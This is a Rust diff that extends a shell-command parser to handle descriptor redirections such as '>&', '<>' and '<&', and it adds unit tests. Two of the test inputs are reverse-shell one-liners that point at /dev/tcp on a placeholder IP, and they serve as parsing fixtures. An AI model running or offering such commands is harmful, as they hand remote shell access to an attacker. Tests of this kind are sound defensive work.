@@ -123,8 +123,14 @@ impl Cutter<'_> {
                 Some('<') => {
                     self.at += 1;
                     let heredoc = self.eat('<');
+                    // `<>` opens both ways, `<&` copies a descriptor.
+                    let both = self.eat('>');
+                    let copied = !both && self.eat('&');
+                    while self.peek() == Some(' ') {
+                        self.at += 1;
+                    }
                     let word = self.word();
-                    if !heredoc {
+                    if !heredoc && !copied {
                         command.input = Some(word);
                     }
                 }
@@ -135,6 +141,10 @@ impl Cutter<'_> {
 
     fn take_word(&mut self, command: &mut Command) {
         let word = self.word();
+        let descriptor = word.len() == 1 && word.chars().all(|letter| letter.is_ascii_digit());
+        if descriptor && matches!(self.peek(), Some('>' | '<')) {
+            return;
+        }
         if command.words.is_empty()
             && let Some((name, value)) = word.split_once('=')
             && !name.is_empty()
@@ -155,14 +165,15 @@ impl Cutter<'_> {
 
     fn redirect(&mut self, command: &mut Command, keep: bool) {
         let append = self.eat('>');
-        if self.eat('&') {
-            self.word();
-            return;
-        }
+        let both = self.eat('&');
         while self.peek() == Some(' ') {
             self.at += 1;
         }
         let word = self.word();
+        // `>&1` copies a descriptor; `>& file` sends both outputs there.
+        if both && (word == "-" || word.chars().all(|letter| letter.is_ascii_digit())) {
+            return;
+        }
         if keep && !matches!(word.as_str(), "/dev/null" | "nul" | "NUL" | "$null") {
             command.output = Some((word, append));
         }
@@ -353,6 +364,12 @@ mod tests {
         assert_eq!(all[0].assignments, [("A".to_owned(), "1".to_owned())]);
         assert_eq!(all[0].output, Some(("out.txt".to_owned(), false)));
         assert!(all[0].background);
+        let wired = commands("bash -i >& /dev/tcp/192.0.2.1/44 0>&1", &mut Plain);
+        assert_eq!(wired[0].words, ["bash", "-i"]);
+        assert_eq!(wired[0].output, Some(("/dev/tcp/192.0.2.1/44".to_owned(), false)));
+        let both = commands("exec 5<>/dev/tcp/192.0.2.1/44; cat <&5", &mut Plain);
+        assert_eq!(both[0].input.as_deref(), Some("/dev/tcp/192.0.2.1/44"));
+        assert_eq!((both[0].words.len(), &both[1].input), (1, &None));
     }
 
     #[test]
